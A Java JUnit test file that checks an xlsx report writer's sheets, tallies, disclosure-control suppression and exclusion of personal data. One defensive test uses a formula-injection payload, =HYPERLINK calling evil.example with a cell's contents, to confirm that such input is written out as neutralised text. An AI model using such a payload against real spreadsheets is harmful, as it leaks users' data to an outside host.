package org.ctnat.io.report;

import static org.ctnat.io.report.ReportFixture.CTNAT;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.math.RoundingMode;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.OptionalInt;
import java.util.TreeMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.ctnat.core.analysis.CountTable;
import org.ctnat.core.analysis.DisclosureControl;
import org.ctnat.core.analysis.GapReport;
import org.ctnat.core.analysis.Gaps;
import org.ctnat.core.analysis.PriorityTally;
import org.ctnat.core.analysis.SuppressedTable;
import org.ctnat.core.analysis.SurveyTally;
import org.ctnat.core.analysis.Tally;
import org.ctnat.core.assessment.Assessment;
import org.ctnat.core.framework.IndicatorId;
import org.ctnat.core.questionbank.ItemId;
import org.ctnat.io.CsvCells;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The data analysis worksheet, read back with fastexcel-reader. */
class WorksheetsTest {

  private static final Assessment ASSESSMENT = ReportFixture.assessment();
  private static final int K = ReportOptions.DEFAULT_K;

  @Test
  void hasTheFourSheetsInOrder(@TempDir Path dir) throws IOException {
    Path file = dir.resolve("worksheet.xlsx");
    Worksheets.write(ASSESSMENT, CTNAT, file);
    try (ReadableWorkbook workbook = new ReadableWorkbook(file.toFile())) {
      assertEquals(List.of(Worksheets.ABOUT, Worksheets.TALLIES, Worksheets.INDICATORS, Worksheets.PRIORITIES),
          workbook.getSheets().map(Sheet::getName).toList());
    }
  }

  @Test
  void talliesHoldEveryCategoryWithCountShareBoundsAndDenominators() throws IOException {
    Map<String, List<Row>> sheets = read(bytes(ASSESSMENT, ReportOptions.defaults()));
    List<Row> rows = sheets.get(Worksheets.TALLIES);
    assertEquals(Worksheets.TALLY_COLUMNS, texts(rows.get(0)));
    SurveyTally tally = SurveyTally.of(CTNAT, ASSESSMENT.surveyResponses());
    int expectedRows = tally.tallies().stream().mapToInt(t -> Math.max(1, t.categories().size())).sum();
    assertEquals(expectedRows, rows.size() - 1);
    int numbers = 0;
    for (Row row : rows.subList(1, rows.size())) {
      Tally item = tally.tally(ItemId.of(row.getCellText(0)));
      if (item.categories().isEmpty()) {
        assertEquals(BigDecimal.valueOf(item.answered()), row.getCellAsNumber(8).orElseThrow());
        continue;
      }
      SuppressedTable published = DisclosureControl.suppress(CountTable.of(item), K);
      int c = item.categories().indexOf(row.getCellText(2));
      OptionalInt count = published.published(0, c);
      if (count.isEmpty()) {
        assertEquals("x", row.getCellText(4), item.item() + " " + row.getCellText(2));
        assertEquals("x", row.getCellText(5));
        continue;
      }
      assertEquals(BigDecimal.valueOf(count.getAsInt()), row.getCellAsNumber(4).orElseThrow());
      if (!item.multipleResponse()) {
        int answered = published.rowTotal(0).orElseThrow();
        assertEquals(BigDecimal.valueOf(answered), row.getCellAsNumber(8).orElseThrow());
        BigDecimal share = BigDecimal.valueOf((double) count.getAsInt() / answered).setScale(4, RoundingMode.HALF_UP);
        assertEquals(0, share.compareTo(row.getCellAsNumber(5).orElseThrow()), item.item() + " share");
        double lower = org.ctnat.core.analysis.IntervalMethod.WILSON.interval(count.getAsInt(), answered, 0.95).lower();
        assertEquals(lower, row.getCellAsNumber(6).orElseThrow().doubleValue(), 0.00005);
        numbers++;
      }
    }
    assertTrue(numbers > 100, "published counts checked: " + numbers);
  }

  @Test
  void theIndicatorSheetMarksExactlyTheFlaggedIndicators() throws IOException {
    List<Row> rows = read(bytes(ASSESSMENT, ReportOptions.defaults())).get(Worksheets.INDICATORS);
    assertEquals(Worksheets.INDICATOR_COLUMNS, texts(rows.get(0)));
    assertEquals(101, rows.size());
    GapReport gaps = Gaps.of(CTNAT, ASSESSMENT);
    for (Row row : rows.subList(1, rows.size())) {
      IndicatorId id = IndicatorId.parse(row.getCellText(0));
      assertEquals(gaps.isFlagged(id) ? "\u25b2 Gap" : "", row.getCellText(8), id.toString());
      int evidence = ASSESSMENT.judgement(id).orElseThrow().evidence().size();
      assertEquals(BigDecimal.valueOf(evidence), row.getCellAsNumber(9).orElseThrow());
      assertEquals(id.criterion().value(), row.getCellText(2));
    }
  }

  @Test
  void thePrioritySheetHasSurveyAndWorkshopsSideBySide() throws IOException {
    List<Row> rows = read(bytes(ASSESSMENT, ReportOptions.internalDraft())).get(Worksheets.PRIORITIES);
    assertEquals(Worksheets.PRIORITY_COLUMNS, texts(rows.get(0)));
    PriorityTally tally = PriorityTally.of(CTNAT, ASSESSMENT.surveyResponses(), ASSESSMENT.workshopResults());
    assertEquals(tally.rows().size() + 1, rows.size());
    for (int p = 0; p < tally.rows().size(); p++) {
      PriorityTally.Row expected = tally.rows().get(p);
      Row row = rows.get(p + 1);
      assertEquals(expected.code(), row.getCellText(0));
      assertEquals(BigDecimal.valueOf(expected.chosen()), row.getCellAsNumber(2).orElseThrow());
      assertEquals(BigDecimal.valueOf(expected.score()), row.getCellAsNumber(6).orElseThrow());
      assertEquals(BigDecimal.valueOf(expected.groups()), row.getCellAsNumber(7).orElseThrow());
    }
  }

  @Test
  void textThatLooksLikeAFormulaIsWrittenAsNeutralisedText() throws IOException {
    String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    Assessment hostile = Assessment.builder().from(ASSESSMENT).country(formula).build();
    byte[] xlsx = bytes(hostile, ReportOptions.defaults());
    Row country = read(xlsx).get(Worksheets.ABOUT).stream().filter(r -> "country or region".equals(r.getCellText(0)))
        .findFirst().orElseThrow();
    Cell cell = country.getCell(1);
    assertEquals(CellType.STRING, cell.getType());
    assertEquals("'" + formula, cell.getText(), "neutralised like a CSV cell");
    assertEquals(formula, CsvCells.restore(cell.getText()));
    for (Map.Entry<String, String> part : parts(xlsx).entrySet()) {
      if (part.getKey().startsWith("xl/worksheets/")) {
        assertFalse(part.getValue().contains("<f>") || part.getValue().contains("<f "), "no formula in " + part.getKey());
      }
    }
  }

  @Test
  void aboutSaysWhetherDisclosureControlWasOnAndWhatItWithheld() throws IOException {
    List<String> published = read(bytes(ASSESSMENT, ReportOptions.defaults())).get(Worksheets.ABOUT).stream()
        .map(r -> String.join(" | ", texts(r))).toList();
    assertTrue(published.contains("k | 5"), published.toString());
    assertTrue(published.contains("Withheld figures"));
    assertTrue(published.stream().anyMatch(l -> l.startsWith("survey 3.1.")));
    List<String> draft = read(bytes(ASSESSMENT, ReportOptions.internalDraft())).get(Worksheets.ABOUT).stream()
        .map(r -> String.join(" | ", texts(r))).toList();
    assertTrue(draft.stream().anyMatch(l -> l.contains("INTERNAL DRAFT")), draft.toString());
  }

  @Test
  void personalDataNeverReachesTheWorkbook() {
    String all = cells(ASSESSMENT, ReportOptions.internalDraft()).toString();
    for (String secret : List.of(ReportFixture.NAME, ReportFixture.EMAIL, ReportFixture.INTERVIEWEE,
        ReportFixture.RESPONDENT_PREFIX)) {
      assertFalse(all.contains(secret), secret);
    }
  }

  @Test
  void anUnwritableFileIsAnUncheckedIoException(@TempDir Path dir) {
    Path file = dir.resolve("missing-folder").resolve("worksheet.xlsx");
    UncheckedIOException e = assertThrows(UncheckedIOException.class,
        () -> Worksheets.write(ASSESSMENT, CTNAT, file));
    assertTrue(e.getMessage().contains("worksheet.xlsx"), e.getMessage());
  }

  // ---------------------------------------------------------------------------------- helpers

  /** Every cell of every sheet as text, sheet by sheet: what a reader of the workbook sees. */
  static List<List<String>> cells(Assessment assessment, ReportOptions options) {
    try {
      List<List<String>> all = new ArrayList<>();
      for (Map.Entry<String, List<Row>> sheet : read(bytes(assessment, options)).entrySet()) {
        for (Row row : sheet.getValue()) {
          List<String> line = new ArrayList<>(List.of(sheet.getKey()));
          line.addAll(texts(row));
          all.add(line);
        }
      }
      return all;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] bytes(Assessment assessment, ReportOptions options) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Worksheets.write(assessment, CTNAT, options, out);
    return out.toByteArray();
  }

  private static Map<String, List<Row>> read(byte[] xlsx) throws IOException {
    Map<String, List<Row>> sheets = new java.util.LinkedHashMap<>();
    try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
      for (Sheet sheet : workbook.getSheets().toList()) {
        sheets.put(sheet.getName(), sheet.read());
      }
    }
    return sheets;
  }

  private static List<String> texts(Row row) {
    List<String> texts = new ArrayList<>();
    for (int c = 0; c < row.getCellCount(); c++) {
      texts.add(row.getCellText(c));
    }
    while (!texts.isEmpty() && texts.get(texts.size() - 1).isEmpty()) {
      texts.remove(texts.size() - 1);
    }
    return texts;
  }

  private static Map<String, String> parts(byte[] xlsx) throws IOException {
    Map<String, String> parts = new TreeMap<>();
    Path file = java.nio.file.Files.createTempFile("worksheet", ".xlsx");
    try {
      java.nio.file.Files.write(file, xlsx);
      try (ZipFile zip = new ZipFile(file.toFile())) {
        for (ZipEntry entry : java.util.Collections.list(zip.entries())) {
          parts.put(entry.getName(), new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8));
        }
      }
    } finally {
      java.nio.file.Files.delete(file);
    }
    return parts;
  }
}
